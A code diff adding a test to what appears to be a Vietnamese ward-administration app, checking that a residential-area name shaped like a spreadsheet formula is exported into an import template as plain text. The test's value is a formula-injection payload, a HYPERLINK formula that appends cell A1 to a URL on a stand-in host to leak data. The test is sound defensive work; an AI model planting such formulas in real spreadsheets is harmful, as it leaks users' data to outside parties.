@@ -13,7 +13,7 @@ from dashboards import summaries
 from dashboards.models import ActivityMonth, SchemeYear
 from tests.register import make_activity, make_scheme, sheet
 from wards.imports import ActivityImport, SchemeImport
-from wards.models import Activity, Scheme
+from wards.models import Activity, ResidentialArea, Scheme
 
 
 def headers(importer) -> list[str]:
@@ -296,3 +296,12 @@ def test_the_same_activity_sheet_twice_is_refused_the_second_time(activity, unit
     assert activity.read(
         sheet(ACTIVITY_HEADERS, [["02/05/2025", "Ca tuần tra", 1, None, None, None]])
     ).errors
+
+
+def test_the_templates_lists_write_a_name_like_a_formula_as_text(schemes, units):
+    hostile = '=HYPERLINK("http://x/?leak="&A1,"Bấm vào đây")'
+    ResidentialArea.objects.create(ward=units["ward"], kind="khu_pho", name=hostile)
+    importer = SchemeImport(units["ward"])
+    lists = load_workbook(io.BytesIO(importer.template()))["DanhMuc"]
+    cells = [cell for row in lists.iter_rows() for cell in row if cell.value == hostile]
+    assert [cell.data_type for cell in cells] == ["s"]
